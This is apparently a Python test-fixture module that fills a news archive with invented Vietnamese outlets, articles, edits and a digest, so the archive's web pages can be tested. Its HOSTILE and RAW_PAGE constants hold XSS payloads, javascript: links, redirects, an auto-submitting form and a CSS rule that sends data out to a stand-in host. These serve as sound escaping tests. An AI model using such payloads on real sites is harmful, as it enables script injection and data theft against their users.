"""A small archive for the tests of the pages: invented outlets and events, and hostile content."""

import functools
import html
import json
import re
import sqlite3
import tempfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
from datasette.app import Datasette

from archive.clock import stamp
from archive.db import sort_at
from archive.health import coverage
from archive.health.coverage import Coverage, Rolled
from archive.home import Home
from archive.pages import RawPage, keep, open_pages
from archive.reasons import reason
from archive.schema import open_archive
from archive.web.access import Access
from archive.web.app import build
from crawler.asked.explain import Explainer

NOW = datetime(2026, 11, 21, 4, 0, tzinfo=UTC)  # Saturday 21/11/2026, 11:00 in Hà Nội
BODY = (
    "Sáng 21/11, khu công nghiệp Đồi Chè đón dây chuyền lắp ráp bảng mạch thứ ba của nhà máy Sao Mai.\n"
    "Theo ban quản lý, sản xuất công nghiệp mười tháng tăng 6,8% so với cùng kỳ; giá trị đạt 8.503 tỷ đồng.\n"
    "Nhà máy sẽ chuyển đổi số toàn bộ kho hàng theo kế hoạch 52-KH/ĐC, hoàn thành trước Tết.\n"
    "Thuỷ điện nhỏ trên sông Chè tiếp tục cấp điện cho cụm xưởng phía bắc."
)
OLD_BODY = BODY.replace("6,8%", "7,8%").replace("dây chuyền lắp ráp bảng mạch", "dây chuyền bảng mạch")
LEAD = "Dây chuyền mới nâng công suất nhà máy Sao Mai thêm một nửa, toàn bộ kho hàng được quản lý bằng mã số."
HOSTILE = (
    '<script>alert("x")</script><img src=x onerror=alert(1)><svg onload=alert(2)> & «lạ»'
    "<style>*{background:url(http://192.0.2.1/css)}</style><base href=http://192.0.2.1/>"
    '<meta http-equiv=refresh content="0;url=http://192.0.2.1/"><a href="javascript:alert(3)">'
    "<form action=http://192.0.2.1/><input autofocus onfocus=this.form.submit()></form>"
)
EDITION = """<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>Điểm tin sáng</title>
<style>body{font-family:sans-serif}</style></head><body><h1 style="color:#23604a">Điểm tin sáng số 7</h1>
<p>I. Công nghiệp</p><p><b>Dây chuyền thứ ba</b> — <a href="https://trungdu.example/1">Báo Trung Du</a></p>
<script>document.title="ran"</script><img src="https://tracker.example/p.png" alt=""></body></html>"""


# What a hostile or merely modern page does: run, move on, send, fetch, frame, connect ahead.
RAW_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Báo Trung Du</title>
<meta http-equiv="refresh" content="0; url=http://192.0.2.1/refresh"><base href="http://192.0.2.1/base/">
<link rel="preconnect" href="http://192.0.2.1/"><link rel="dns-prefetch" href="//evil.example">
<link rel="stylesheet" href="http://192.0.2.1/style.css"><LINK rel="prefetch" href="http://192.0.2.1/next">
<style>@import url(http://192.0.2.1/import.css); body{background:url(http://192.0.2.1/css)}
@font-face{font-family:f;src:url(http://192.0.2.1/font)} p{font-family:f;color:#123456}
input[value^=a]{background:url(http://192.0.2.1/exfiltrate)}</style>
<script>window.top.ran = true; alert(1)</script><script src="http://192.0.2.1/x.js"></script></head>
<body onload="alert(2)" background="http://192.0.2.1/old"><p>Chữ của trang đã lưu</p>
<img src="http://192.0.2.1/p.png" srcset="http://192.0.2.1/p2.png 2x" onerror="alert(3)">
<svg onload="alert(4)"><image href="http://192.0.2.1/svg"/></svg><a href="javascript:alert(5)">bấm</a>
<form id="f" action="http://192.0.2.1/form"><input name="q" value="a" autofocus onfocus="this.form.submit()">
<button>gửi</button></form><iframe src="http://192.0.2.1/frame"></iframe>
<iframe srcdoc="<script>alert(6)</script>"></iframe><object data="http://192.0.2.1/object"></object><embed src="http://192.0.2.1/embed">
<video poster="http://192.0.2.1/poster" src="http://192.0.2.1/video" autoplay></video>
<script>document.getElementById("f").submit()</script></body></html>""".encode()

SOURCES = """\
sources:
  trungdu:
    name: Báo Trung Du
    home: https://trungdu.example/
    kind: provincial
    article: 'trungdu.example/'
    feeds: [https://trungdu.example/rss]
  songche:
    name: Thời báo Sông Chè
    home: https://songche.example/
    kind: national
    article: 'songche.example/'
    feeds: [https://songche.example/rss]
"""


def write_sources(home: Home) -> None:
    """A config of two outlets of the sample."""
    path = home.path / "config" / "sources.yml"
    path.parent.mkdir(exist_ok=True)
    path.write_text(SOURCES, encoding="utf-8")


def fill_pages(path: Path, now: datetime = NOW) -> None:
    """Write pages.db with two copies of article 1's page, the first one hostile."""
    pages = open_pages(path)
    later = RAW_PAGE.replace("đã lưu".encode(), "đã sửa".encode())
    for hours, body in ((4, RAW_PAGE), (2, later)):
        at = now - timedelta(hours=hours)
        keep(pages, RawPage("https://trungdu.example/1", "trungdu", at, "text/html; charset=utf-8", body))
    pages.close()


def fill_refused(path: Path, now: datetime = NOW) -> None:
    """Write addresses into pages.db that were refused, one with a hostile title."""
    pages = open_pages(path)
    rows = [
        (
            "https://trungdu.example/ngan",
            "trungdu",
            "Thái Nguyên vào hạ",
            "too_short",
            "too_little_text",
            "list",
        ),
        ("https://songche.example/cam", "songche", "", "robots", "robots", "page"),
        ("https://songche.example/loi", "songche", HOSTILE, "failed", HOSTILE, "list"),
        ("javascript:alert(1)", "songche", "Địa chỉ lạ", "failed", "timeout", "list"),
        ("https://trungdu.example/cu", "trungdu", "Chuyện cũ", "gone", "http", "list"),
    ]
    for hours, (url, source, title, outcome, why, names_in) in enumerate(rows, 1):
        reasons = {
            "too_little_text": reason("too_little_text", length=21, least=80),
            "http": reason("http", status=404),
        }
        at = stamp(now - timedelta(hours=200 if source == "trungdu" and outcome == "gone" else hours))
        pages.table("addresses").insert(
            {
                "url": url,
                "source": source,
                "found_at": at,
                "found_in": f"https://{source}.example/rss",
                "hint": json.dumps({"title": title}),
                "outcome": outcome,
                "reason": reasons.get(why, why),
                "ended_at": at,
                "refused_at": at,
                "names_in": names_in,
            }
        )
    pages.close()


def fill(path: Path, now: datetime = NOW) -> None:
    """Write the archive to a path that does not exist yet."""
    path.write_bytes(_filled(now))


@functools.cache
def _filled(now: datetime) -> bytes:
    """The archive as a file, made once for all the tests that start from it."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "archive.db"
        _fill(path, now)
        return path.read_bytes()


def _fill(path: Path, now: datetime) -> None:
    db = open_archive(path)
    conn: sqlite3.Connection = db.conn
    for key, name, state in [
        ("trungdu", "Báo Trung Du", "live"),
        ("songche", "Thời báo Sông Chè", "live"),
        ("sotin", "Cổng tin Sở Tin", "live"),
        ("im", "Tạp chí Im Lặng", "live"),
    ]:
        db.table("sources").insert(
            {"key": key, "name": name, "home": f"https://{key}.example/", "kind": "provincial", "state": state}
        )
    for key, name, weight in [("cong-nghiep", "Công nghiệp", 3.0), ("chuyen-doi-so", "Chuyển đổi số", 2.0)]:
        db.table("topics").insert({"key": key, "name": name, "query": f'"{name.lower()}"', "weight": weight})
    _news(conn, now)
    _facts(conn, now)
    _runs(conn, now)
    week = {"since_at": stamp(now - timedelta(days=7)), "until_at": stamp(now - timedelta(hours=6))}
    rolled = [Rolled("https://songche.example/rss/kinh-te-1185.rss", 20, 1800, last=False)]
    coverage.save(db, "trungdu", Coverage(**week, feeds=1204, others=1180, both=1150, named=1234, kept=18))
    coverage.save(db, "songche", Coverage(**week, feeds=9, named=9, kept=2, rolled=rolled))
    conn.close()


def _article(conn: sqlite3.Connection, article_id: int, at: datetime, slot: int = 0, **given: object) -> None:
    row: dict[str, object] = {
        "id": article_id,
        "sort": sort_at(at) + slot,
        "url": f"https://trungdu.example/{article_id}",
        "source": "trungdu",
        "title": f"Tin số {article_id}",
        "lead": "",
        "body": "",
        "published_at": stamp(at),
        "published_from": "jsonld",
        "first_seen_at": stamp(at + timedelta(minutes=9)),
        "last_seen_at": stamp(at + timedelta(hours=1)),
        "relevant": 1,
        "sha256": "0" * 64,
        **given,
    }
    names = ", ".join(row)
    conn.execute(f"insert into articles ({names}) values ({', '.join('?' * len(row))})", list(row.values()))
    _version(conn, article_id, at + timedelta(minutes=9), "first", row)


def _version(
    conn: sqlite3.Connection,
    article_id: int,
    at: datetime,
    kind: str,
    row: dict[str, object],
    changes: str = "[]",
) -> None:
    conn.execute(
        "insert into versions (article_id, seen_at, kind, title, lead, body, sha256, changes)"
        " values (?, ?, ?, ?, ?, ?, '', ?)",
        [article_id, stamp(at), kind, row["title"], row["lead"], row["body"], changes],
    )


def _news(conn: sqlite3.Connection, now: datetime) -> None:
    title = "Nhà máy Sao Mai chạy dây chuyền bảng mạch thứ ba"
    hour = timedelta(hours=1)
    _article(conn, 1, now - 4 * hour, title=title, lead=LEAD, body=OLD_BODY, story_id=1,
             authors='["Nguyễn Thử"]', section="Kinh tế",
             why=json.dumps(["«khu công nghiệp» trong nội dung", "nơi: Đồi Chè"]))  # fmt: skip
    edited: dict[str, object] = {"title": title, "lead": LEAD, "body": BODY}
    changes = [{"kind": "figure", "field": "body", "before": "7,8%", "after": "6,8%"}]
    conn.execute(
        "update articles set body = ?, edits = 1, changed_at = ? where id = 1", [BODY, stamp(now - 2 * hour)]
    )
    _version(conn, 1, now - 2 * hour, "edit", edited, json.dumps(changes))
    _article(conn, 2, now - 3 * hour, url="https://songche.example/2", source="songche", title=title,
             story_id=1, lead=LEAD, body=BODY,
             credit="Báo Trung Du", credit_url="https://trungdu.example/1")  # fmt: skip
    _article(conn, 3, now - 2 * hour, url="https://sotin.example/3", source="sotin", story_id=1,
             title="Sao Mai thêm dây chuyền", body=BODY, published_from="byline")  # fmt: skip
    _article(conn, 4, now - 5 * hour, title="Sở Tin mở lớp chuyển đổi số cho hợp tác xã chè", source="sotin",
             url="https://sotin.example/4",
             body="Lớp học mở tối thứ Ba hằng tuần.\nHọc viên nhập sổ bằng điện thoại.")  # fmt: skip
    _article(conn, 5, now - 30 * hour, title="Xưởng thuỷ tinh Bến Đá tạm dừng lò số hai", state="gone",
             body="Lò số hai dừng để bảo dưỡng.", gone_at=stamp(now - 20 * hour))  # fmt: skip
    conn.executemany(
        "insert into states (article_id, at, state, reason) values (5, ?, ?, ?)",
        [(stamp(now - 26 * hour), "suspected", "404"), (stamp(now - 20 * hour), "gone", "404")],
    )
    _article(conn, 6, now - 6 * hour, title=HOSTILE, lead=HOSTILE, body=f"{HOSTILE}\nđoạn công nghiệp hai",
             url="javascript:alert(document.domain)", credit=HOSTILE, credit_url="javascript:alert(2)",
             section=HOSTILE, authors=json.dumps([HOSTILE]), why=json.dumps([HOSTILE]))  # fmt: skip
    for number in range(7, 47):
        _article(conn, number, now - number * 24 * hour, slot=number,
                 title=f"Bản tin công nghiệp số {number}",
                 body=f"Sản lượng kỳ {number} đạt {number * 1000} tấn thép.")  # fmt: skip
    _article(conn, 60, now - 3 * hour, slot=5, title="Kết quả bóng chuyền", body="Đội nhà thắng.", relevant=0)


def _facts(conn: sqlite3.Connection, now: datetime) -> None:
    conn.execute(
        "insert into stories (id, title, first_article_id, first_published_at, articles, outlets)"
        " values (1, 'Sao Mai', 1, ?, 3, 3)",
        [stamp(now - timedelta(hours=4))],
    )
    rows = [(number, "cong-nghiep") for number in (1, 2, 3, 5, 6, *range(7, 47))]
    rows += [(1, "chuyen-doi-so"), (4, "chuyen-doi-so")]
    conn.executemany("insert into article_topics (article_id, topic) values (?, ?)", rows)
    conn.executemany(
        "insert into mentions (article_id, kind, name, count) values (?, ?, ?, ?)",
        [(1, "place", "Đồi Chè", 2), (1, "organisation", "Nhà máy Sao Mai", 3), (3, "place", "Đồi Chè", 1),
         (1, "person", "Trần Mẫu", 1), (6, "place", HOSTILE, 1)],
    )  # fmt: skip
    conn.execute(
        "insert into documents (number, kind, issuer) values ('52-KH/ĐC', 'Kế hoạch', 'Ban quản lý Đồi Chè')"
    )
    conn.execute(
        "insert into article_documents (article_id, number, dated, quote)"
        " values (1, '52-KH/ĐC', '2026-10-01', ?)",
        [BODY.split("\n")[2]],
    )
    conn.executemany(
        "insert into figures (article_id, key, indicator, value, unit, rank_of, period, kind, quote)"
        " values (1, ?, ?, ?, ?, ?, ?, ?, ?)",
        [
            ("iip", "sản xuất công nghiệp", 6.8, "%", None, "2026-01..2026-10", "actual", BODY.split("\n")[1]),
            ("", "giá trị sản xuất", 8503e9, "đồng", None, "2026-01..2026-10", "actual", BODY.split("\n")[1]),
            ("pci", "chỉ số điều hành", 3.0, "hạng", 61, None, "target", "Phấn đấu hạng 3/61."),
        ],
    )


def _runs(conn: sqlite3.Connection, now: datetime) -> None:
    at = stamp(now - timedelta(minutes=25))
    conn.executemany(
        "insert into runs (source, started_at, finished_at, state, outcomes, reason) values (?, ?, ?, ?, ?, ?)",
        [
            ("trungdu", at, at, "done", json.dumps({"stored": 3, "unchanged": 12, "irrelevant": 40}), ""),
            ("songche", at, at, "done", json.dumps({"stored": 1, "failed": 9}), ""),
            ("sotin", at, at, "unreachable", "{}", "timed out"),
        ],
    )
    conn.execute(
        """insert into digests
        (id, name, edition, created_at, sent_at, state, html, title, covers_from, covers_to)
        values (7, 'sang', '2026-11-21', ?, ?, 'sent', ?, 'Điểm tin sáng', ?, ?)""",
        [at, at, EDITION, stamp(now - timedelta(hours=28)), stamp(now - timedelta(hours=4))],
    )
    conn.executemany(
        "insert into deliveries (digest_id, channel, state, attempts, last_error) values (7, ?, ?, 1, ?)",
        [("mailto://ai-do@congty.example", "sent", None), ("file", "failed", "ai-do@congty.example refused")],
    )


@asynccontextmanager
async def running(datasette: Datasette) -> AsyncIterator[Datasette]:
    """A Datasette begun, and closed with all it holds."""
    await datasette.invoke_startup()
    try:
        yield datasette
    finally:
        datasette.executor.shutdown()
        for database in datasette.databases.values():
            database.close()


def words(page: httpx.Response) -> str:
    """The text a reader sees, on one line."""
    body = re.sub(r"<(script|style)\b.*?</\1>", "", page.text, flags=re.DOTALL)
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", body)).split())


@asynccontextmanager
async def serving_explained(
    home: Home, access: Access | None = None, now: datetime = NOW
) -> AsyncIterator[Datasette]:
    """The archive served beside a crawler that can say why an address is not in it."""
    explain = Explainer(home, lambda: now)
    async with running(build(home, now=lambda: now, access=access, explain=explain)) as datasette:
        yield datasette
